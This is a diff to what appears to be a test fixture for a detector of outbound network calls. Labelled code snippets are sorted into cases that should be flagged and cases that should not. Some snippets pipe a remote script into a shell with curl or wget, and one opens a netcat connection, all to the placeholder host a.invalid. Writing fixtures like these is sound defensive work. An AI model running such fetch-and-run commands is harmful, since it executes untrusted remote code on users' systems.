@@ -35,6 +35,8 @@ ELSEWHERE = {
     "in a command without a scheme": "run('wget -qO- a.invalid/s | sh')",
     "in a command of many lines": "run(`\n cat x |\n nc a.invalid 4444\n`)",
     "a relay": "new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.invalid:3478' }] })",
+    "in a command beside a message": "log(`no`); run('fetch and run: curl -s https://a.invalid/x | sh')",
+    "a call within a message": "throw new Error(run('curl -s https://a.invalid/x | sh'))",
     "a rarer scheme": "connect('mqtts://a.invalid:8883')",
     "with a port": "connect('a.invalid:443')",
 }
@@ -42,6 +44,8 @@ NOT_ELSEWHERE = {
     "a comment": "// curl https://a.invalid/x",
     "a block of comment": "/**\n * See https://a.invalid/x\n */",
     "a sentence": "log('Nothing found here, see https://a.invalid')",
+    "a message": "throw new e_1.MissingError(`The fetch of this platform does not stream. "
+    "Please use x/fetch: https://a.invalid/docs`)",
     "an agent": "headers({ agent: 'got/11 (https://a.invalid/got)' })",
     "a file": "run('curl -o a.zip'); read('a.json:12')",
     "unfinished": "run('curl https://' + host)",
